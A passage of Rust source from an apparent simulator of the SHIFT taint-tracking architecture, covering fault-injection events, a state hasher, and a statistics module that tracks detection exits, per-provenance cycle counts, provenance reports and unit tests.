    pub(crate) cpu: Cpu,
    pub(crate) mem_epoch: u64,
}

/// A transient event the fault-injection harness can deliver mid-run.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Injection {
    /// Toggles the NaT bit of a register, leaving its value intact — models
    /// a bit flip in the register file's NaT bank.
    FlipNat {
        /// Register whose NaT bit is toggled.
        reg: Gpr,
    },
    /// XORs one byte of memory — aimed at tag-bitmap bytes in region 0 to
    /// model corruption of the in-memory taint state. Injection into an
    /// unmapped address is a no-op (provably benign).
    CorruptByte {
        /// Byte address to corrupt.
        addr: u64,
        /// Mask XORed into the byte (0 is a no-op).
        xor: u8,
    },
    /// Raises an architectural fault out of thin air — models a transient
    /// unmapped/unaligned access the guest did not architecturally make.
    Fault(Fault),
}

/// Incremental FNV-1a hasher used for byte-for-byte state digests.
#[derive(Clone, Debug)]
pub(crate) struct Fnv(pub u64);

impl Fnv {
    pub(crate) fn new() -> Fnv {
        Fnv(0xCBF2_9CE4_8422_2325)
    }

    #[inline]
    pub(crate) fn byte(&mut self, b: u8) {
        self.0 ^= u64::from(b);
        self.0 = self.0.wrapping_mul(0x1000_0000_01B3);
    }

    #[inline]
    pub(crate) fn word(&mut self, w: u64) {
        for b in w.to_le_bytes() {
            self.byte(b);
        }
    }

    pub(crate) fn bytes(&mut self, bs: &[u8]) {
        for &b in bs {
            self.byte(b);
        }
    }
}
