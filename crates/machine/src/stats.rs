//! Cycle and event accounting, attributed by instruction provenance.

use shift_isa::Provenance;

use crate::fault::Fault;

/// A policy violation reported by the runtime (the software half of SHIFT's
/// detection: sinks and `chk.s` recovery handlers).
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct Violation {
    /// Policy identifier (e.g. `"H1"`, `"L2"`).
    pub policy: String,
    /// Human-readable description of what tripped.
    pub message: String,
    /// Instruction index of the offending runtime call or check.
    pub ip: usize,
    /// Taint provenance chain from source channel to sink, e.g.
    /// `"net_read msg#0 bytes 4..12 → r9 → store @0x6000f8 → file_open arg"`.
    /// `None` when taint tracing was not enabled for the run.
    pub provenance: Option<String>,
}

impl std::fmt::Display for Violation {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "policy {} violated at ip {}: {}", self.policy, self.ip, self.message)
    }
}

/// Why a run stopped.
#[derive(Clone, PartialEq, Eq, Debug)]
pub enum Exit {
    /// The guest executed `halt`/`exit`; payload is the exit status.
    Halted(i64),
    /// An architectural fault (NaT consumption, segfault, …). Under SHIFT a
    /// NaT-consumption fault is a *detected low-level attack*.
    Fault(Fault),
    /// The runtime's policy engine detected an attack.
    Violation(Violation),
    /// The instruction budget given to [`crate::Machine::run`] ran out.
    InsnLimit,
    /// The per-transaction watchdog budget ran out (see
    /// [`crate::Machine::arm_watchdog`]) — a runaway or wedged guest was
    /// terminated deterministically. Distinct from [`Exit::InsnLimit`]: the
    /// watchdog is a recoverable, per-request budget the runtime re-arms,
    /// while `InsnLimit` is the whole run's ceiling.
    FuelExhausted,
    /// The guest parked at an I/O point: the runtime completed the syscall
    /// in full (data delivered, return value set, latency charged) and then
    /// yielded instead of continuing, so an event-driven scheduler can run
    /// another guest while this one's modelled I/O is in flight. Not a
    /// terminal exit — `ip` already points past the syscall, so calling
    /// [`crate::Machine::run`] again resumes the guest exactly where it
    /// parked.
    Parked,
}

impl Exit {
    /// Returns `true` if the run ended with a detection event (fault caused
    /// by NaT consumption, or a policy violation).
    pub fn is_detection(&self) -> bool {
        match self {
            Exit::Violation(_) => true,
            Exit::Fault(f) => f.is_nat_consumption(),
            _ => false,
        }
    }

    /// Returns `true` for a clean `Halted(0)` exit.
    pub fn is_clean(&self) -> bool {
        matches!(self, Exit::Halted(0))
    }
}

impl std::fmt::Display for Exit {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Exit::Halted(code) => write!(f, "halted with status {code}"),
            Exit::Fault(fault) => write!(f, "fault: {fault}"),
            Exit::Violation(v) => write!(f, "violation: {v}"),
            Exit::InsnLimit => f.write_str("instruction limit reached"),
            Exit::FuelExhausted => f.write_str("watchdog fuel budget exhausted"),
            Exit::Parked => f.write_str("parked at an I/O point"),
        }
    }
}

const NPROV: usize = Provenance::ALL.len();

/// Execution statistics for one run.
///
/// All counters are *modelled* events — deterministic for a given program
/// and input, regardless of host speed or dispatch tier:
///
/// ```
/// use shift_isa::{Gpr, Insn, Op, Provenance};
/// use shift_machine::{Image, Machine, NullOs};
///
/// let image = Image::builder()
///     .code(vec![Insn::new(Op::MovI { dst: Gpr::R8, imm: 0 }), Insn::new(Op::Halt)])
///     .build();
/// let mut m = Machine::new(&image);
/// m.run(&mut NullOs, 1_000);
/// assert_eq!(m.stats.instructions, 2);
/// assert_eq!(m.stats.cycles, m.stats.cycles_for(Provenance::Original));
/// ```
#[derive(Clone, PartialEq, Eq, Debug, Default)]
pub struct Stats {
    /// Retired instructions (includes predicated-off slots).
    pub instructions: u64,
    /// CPU cycles (base latencies + memory stalls + branch penalties).
    pub cycles: u64,
    /// I/O wait cycles charged by the runtime (network/disk latency). Kept
    /// separate from `cycles` so experiments can report CPU-only slowdown
    /// (SPEC) and end-to-end time (Apache) from the same run.
    pub io_cycles: u64,
    /// Cycles per provenance label.
    pub cycles_by_prov: [u64; NPROV],
    /// Instructions per provenance label.
    pub insns_by_prov: [u64; NPROV],
    /// Dynamic loads executed (original code only).
    pub loads: u64,
    /// Dynamic stores executed (original code only).
    pub stores: u64,
    /// Speculative loads whose deferral fired (NaT set instead of a value).
    pub deferred_loads: u64,
    /// `chk.s` checks that branched to recovery.
    pub chk_taken: u64,
    /// Runtime calls executed.
    pub syscalls: u64,
    /// CPU cycles spent inside the runtime (kernel copy loops, intrinsic
    /// bodies). A *subset* of `cycles`: [`Stats::charge_runtime`] adds to
    /// both, attributing the time to [`Provenance::Original`] — the
    /// uninstrumented baseline pays it too. Kept separately so reports can
    /// split pipeline time from runtime time.
    pub runtime_cycles: u64,
    /// Fault-injection events applied (see [`crate::Machine::inject_after`]).
    pub injected_events: u64,
}

impl Stats {
    /// Fresh, all-zero statistics.
    pub fn new() -> Stats {
        Stats::default()
    }

    /// Records a retired instruction of provenance `prov` costing `cycles`.
    #[inline]
    pub fn retire(&mut self, prov: Provenance, cycles: u64) {
        self.instructions += 1;
        self.cycles += cycles;
        self.cycles_by_prov[prov.index()] += cycles;
        self.insns_by_prov[prov.index()] += 1;
    }

    /// Adds I/O wait time (charged by the runtime for network/disk calls).
    #[inline]
    pub fn charge_io(&mut self, cycles: u64) {
        self.io_cycles += cycles;
    }

    /// Adds CPU time spent inside the runtime (kernel copy loops, intrinsic
    /// bodies). Attributed to [`Provenance::Original`] — the uninstrumented
    /// baseline pays it too — and tracked in [`Stats::runtime_cycles`] so
    /// [`Stats::provenance_report`] can show it as its own row.
    #[inline]
    pub fn charge_runtime(&mut self, cycles: u64) {
        self.cycles += cycles;
        self.cycles_by_prov[Provenance::Original.index()] += cycles;
        self.runtime_cycles += cycles;
    }

    /// Folds another run's counters into this one, element-wise. Every field
    /// is an exact `u64` sum, so merging is associative and order-independent
    /// — a fleet aggregate built in any order equals the sequential total
    /// bit-for-bit.
    pub fn merge(&mut self, other: &Stats) {
        self.instructions += other.instructions;
        self.cycles += other.cycles;
        self.io_cycles += other.io_cycles;
        for i in 0..NPROV {
            self.cycles_by_prov[i] += other.cycles_by_prov[i];
            self.insns_by_prov[i] += other.insns_by_prov[i];
        }
        self.loads += other.loads;
        self.stores += other.stores;
        self.deferred_loads += other.deferred_loads;
        self.chk_taken += other.chk_taken;
        self.syscalls += other.syscalls;
        self.runtime_cycles += other.runtime_cycles;
        self.injected_events += other.injected_events;
    }

    /// Total modelled time: CPU cycles plus I/O waits.
    pub fn total_time(&self) -> u64 {
        self.cycles + self.io_cycles
    }

    /// Cycles attributed to instrumentation (everything except
    /// [`Provenance::Original`]).
    pub fn instrumentation_cycles(&self) -> u64 {
        self.cycles - self.cycles_by_prov[Provenance::Original.index()]
    }

    /// Cycles for one provenance label.
    pub fn cycles_for(&self, prov: Provenance) -> u64 {
        self.cycles_by_prov[prov.index()]
    }

    /// Instruction count for one provenance label.
    pub fn insns_for(&self, prov: Provenance) -> u64 {
        self.insns_by_prov[prov.index()]
    }

    /// Formats a per-provenance cycle table (diagnostics).
    ///
    /// Runtime CPU time is charged to the `original` row (the baseline pays
    /// it too); the `(runtime)` row breaks out how much of `original` that
    /// is, and `(io-wait)` / `(total)` reconcile the table against
    /// [`Stats::total_time`]. Parenthesised rows are informational, not
    /// additional provenance labels.
    pub fn provenance_report(&self) -> String {
        use std::fmt::Write as _;
        let mut out = String::new();
        let _ = writeln!(out, "{:<12} {:>14} {:>14}", "provenance", "insns", "cycles");
        for p in Provenance::ALL {
            let (i, c) = (self.insns_for(p), self.cycles_for(p));
            if i > 0 {
                let _ = writeln!(out, "{:<12} {:>14} {:>14}", p.name(), i, c);
            }
        }
        if self.runtime_cycles > 0 {
            let _ = writeln!(out, "{:<12} {:>14} {:>14}", "(runtime)", "-", self.runtime_cycles);
        }
        if self.io_cycles > 0 {
            let _ = writeln!(out, "{:<12} {:>14} {:>14}", "(io-wait)", "-", self.io_cycles);
        }
        let _ =
            writeln!(out, "{:<12} {:>14} {:>14}", "(total)", self.instructions, self.total_time());
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::fault::{Fault, NatFaultKind};

    #[test]
    fn retire_accumulates_by_provenance() {
        let mut s = Stats::new();
        s.retire(Provenance::Original, 3);
        s.retire(Provenance::LdTagCompute, 2);
        s.retire(Provenance::LdTagCompute, 2);
        assert_eq!(s.instructions, 3);
        assert_eq!(s.cycles, 7);
        assert_eq!(s.cycles_for(Provenance::LdTagCompute), 4);
        assert_eq!(s.insns_for(Provenance::LdTagCompute), 2);
        assert_eq!(s.instrumentation_cycles(), 4);
    }

    #[test]
    fn io_time_is_separate() {
        let mut s = Stats::new();
        s.retire(Provenance::Original, 10);
        s.charge_io(90);
        assert_eq!(s.cycles, 10);
        assert_eq!(s.total_time(), 100);
    }

    #[test]
    fn merge_sums_every_counter() {
        let mut a = Stats::new();
        a.retire(Provenance::Original, 3);
        a.charge_io(10);
        a.charge_runtime(5);
        a.loads = 2;
        let mut b = Stats::new();
        b.retire(Provenance::LdTagCompute, 4);
        b.stores = 1;
        b.syscalls = 7;
        let mut merged = a.clone();
        merged.merge(&b);
        assert_eq!(merged.instructions, a.instructions + b.instructions);
        assert_eq!(merged.cycles, a.cycles + b.cycles);
        assert_eq!(merged.total_time(), a.total_time() + b.total_time());
        assert_eq!(merged.cycles_for(Provenance::LdTagCompute), 4);
        assert_eq!(merged.cycles_for(Provenance::Original), a.cycles_for(Provenance::Original));
        assert_eq!(merged.loads, 2);
        assert_eq!(merged.stores, 1);
        assert_eq!(merged.syscalls, a.syscalls + 7);
        assert_eq!(merged.runtime_cycles, 5);
        // Order independence: b.merge(a) gives the same totals.
        let mut swapped = b.clone();
        swapped.merge(&a);
        assert_eq!(swapped.instructions, merged.instructions);
        assert_eq!(swapped.cycles_by_prov, merged.cycles_by_prov);
    }

    #[test]
    fn exit_detection_classification() {
        assert!(Exit::Violation(Violation {
            policy: "H1".into(),
            message: "absolute path".into(),
            ip: 0,
            provenance: None,
        })
        .is_detection());
        assert!(Exit::Fault(Fault::NatConsumption { kind: NatFaultKind::LoadAddress, ip: 1 })
            .is_detection());
        assert!(!Exit::Fault(Fault::BadIp { ip: 0 }).is_detection());
        assert!(Exit::Halted(0).is_clean());
        assert!(!Exit::Halted(1).is_clean());
    }

    #[test]
    fn provenance_report_lists_nonzero_rows() {
        let mut s = Stats::new();
        s.retire(Provenance::Relax, 5);
        let rep = s.provenance_report();
        assert!(rep.contains("relax"));
        assert!(!rep.contains("st-mem"));
    }

    /// Regression test for the `charge_runtime`/`charge_io` asymmetry:
    /// runtime CPU time must be visible in the report (its own row) *and*
    /// the report's total must reconcile with `total_time()`.
    #[test]
    fn runtime_time_is_attributed_and_reconciles() {
        let mut s = Stats::new();
        s.retire(Provenance::Original, 10);
        s.charge_runtime(25);
        s.charge_io(100);
        // charge_runtime adds to cycles (under `original`) and is tracked.
        assert_eq!(s.cycles, 35);
        assert_eq!(s.runtime_cycles, 25);
        assert_eq!(s.cycles_for(Provenance::Original), 35);
        assert_eq!(s.total_time(), 135);
        // Runtime time is not instrumentation overhead.
        assert_eq!(s.instrumentation_cycles(), 0);
        let rep = s.provenance_report();
        assert!(rep.contains("(runtime)"), "runtime row missing:\n{rep}");
        assert!(rep.contains("25"), "runtime cycles missing:\n{rep}");
        assert!(rep.contains("(io-wait)"), "io row missing:\n{rep}");
        assert!(rep.contains("135"), "total must equal total_time():\n{rep}");
    }

    #[test]
    fn report_omits_runtime_and_io_rows_when_zero() {
        let mut s = Stats::new();
        s.retire(Provenance::Original, 1);
        let rep = s.provenance_report();
        assert!(!rep.contains("(runtime)"));
        assert!(!rep.contains("(io-wait)"));
        assert!(rep.contains("(total)"));
    }
}
